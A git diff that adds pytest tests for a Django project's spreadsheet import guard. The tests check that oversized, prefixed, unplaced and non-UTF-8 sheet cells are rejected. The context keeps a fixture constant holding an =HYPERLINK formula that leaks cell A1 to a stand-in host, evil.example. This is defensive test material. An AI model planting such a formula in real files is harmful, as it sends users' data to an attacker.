@@ -39,6 +39,7 @@ from kechuang.imports.services import import_file
 from kechuang.imports.tests.test_import import ENT, enterprise_rows, workbook
 
 ROOT = Path(__file__).resolve().parents[3]
+MAIN_NS = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
 
 
@@ -189,6 +190,86 @@ def test_cells_without_a_position_are_refused(tmp_path):
         lambda xml: xml.replace(b'<c r="C2" t="inlineStr">', b'<c t="inlineStr">'),
     )
     assert "未标明位置" in first_message(path)
+
+
+def _pad_before(xml: bytes, marker: bytes, offset: int) -> bytes:
+    """Put an inline-text cell of padding in the first row so that ``marker`` starts at byte
+    ``offset`` of the sheet's XML."""
+    at = xml.index(b"</row>")
+    cell = b'<c r="Z1" t="inlineStr"><is><t>'
+    room = offset - xml.index(marker) - len(cell) - len(b"</t></is></c>")
+    assert room > 0
+    padding = os.urandom(room).hex().encode()[:room]  # does not compress like a bomb
+    return xml[:at] + cell + padding + b"</t></is></c>" + xml[at:]
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("split", [0, 3, 9])
+def test_a_reference_across_two_decompressed_chunks_is_still_caught(tmp_path, split):
+    from kechuang.imports.guard import CHUNK
+
+    marker = b'<c r="XFD20000"'
+    path = rewrite_sheet(
+        bomb(tmp_path / "b.xlsx"),
+        lambda xml: _pad_before(re.sub(rb"<dimension [^>]*/>", b"", xml), marker, CHUNK - split),
+    )
+    xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
+    assert xml.index(marker) == CHUNK - split
+    assert "过大" in first_message(path)
+
+
+@pytest.mark.django_db
+def test_prefixed_cells_beyond_the_limit_or_without_a_position_are_refused(tmp_path):
+    def prefix(xml: bytes) -> bytes:
+        xml = re.sub(rb"<dimension [^>]*/>", b"", xml)
+        xml = re.sub(rb"<(/?)(worksheet|sheetData|row|c|is|t)\b", rb"<\1x:\2", xml)
+        return xml.replace(b"<x:worksheet ", b'<x:worksheet xmlns:x="' + MAIN_NS + b'" ', 1)
+
+    far = rewrite_sheet(bomb(tmp_path / "far.xlsx"), prefix)
+    assert b'<x:c r="XFD20000"' in zipfile.ZipFile(far).read("xl/worksheets/sheet1.xml")
+    assert "过大" in first_message(far)
+    unplaced = rewrite_sheet(
+        bomb(tmp_path / "unplaced.xlsx", "C2"),
+        lambda xml: prefix(xml).replace(b'<x:c r="C2" t="inlineStr">', b'<x:c t="inlineStr">'),
+    )
+    assert "未标明位置" in first_message(unplaced)
+
+
+@pytest.mark.django_db
+def test_a_sheet_that_is_not_utf8_is_still_checked(tmp_path):
+    def latin1(xml: bytes) -> bytes:  # a text cell in ISO-8859-1, then a cell without r
+        xml = xml.replace(b'<c r="C2" t="inlineStr">', b'<c t="inlineStr">')
+        return xml.replace(b"<t>x</t>", b"<t>caf\xe9</t>")
+
+    path = rewrite_sheet(bomb(tmp_path / "b.xlsx", "C2"), latin1)
+    xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
+    with pytest.raises(UnicodeDecodeError):
+        xml.decode("utf-8")
+    with pytest.raises(WorkbookRejected, match="without a position|未标明位置"):
+        check_workbook(path)
+
+
+def test_attributes_named_like_r_do_not_count_as_a_position():
+    import polars as pl
+
+    from kechuang.imports.guard import UNPLACED, UNPLACED_POLARS
+
+    tags = [
+        '<c t="s">',
+        "<row>",
+        "<c/>",
+        '<c xr="A1">',
+        '<c s="1" t="n"/>',  # no position
+        '<c r="A1">',
+        "<c t='s' r='A1'>",
+        '<x:c x:r="B2" t="s">',
+        '<row r="5" spans="1:3">',
+        "<cols>",
+        '<col min="1">',  # a position, or not a cell at all
+    ]
+    python = [bool(UNPLACED.search(t.encode())) for t in tags]
+    polars = pl.Series(tags).str.contains(UNPLACED_POLARS).to_list()
+    assert python == polars == [True] * 5 + [False] * 6
 
 
 def _zip(path: Path, members: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> Path:
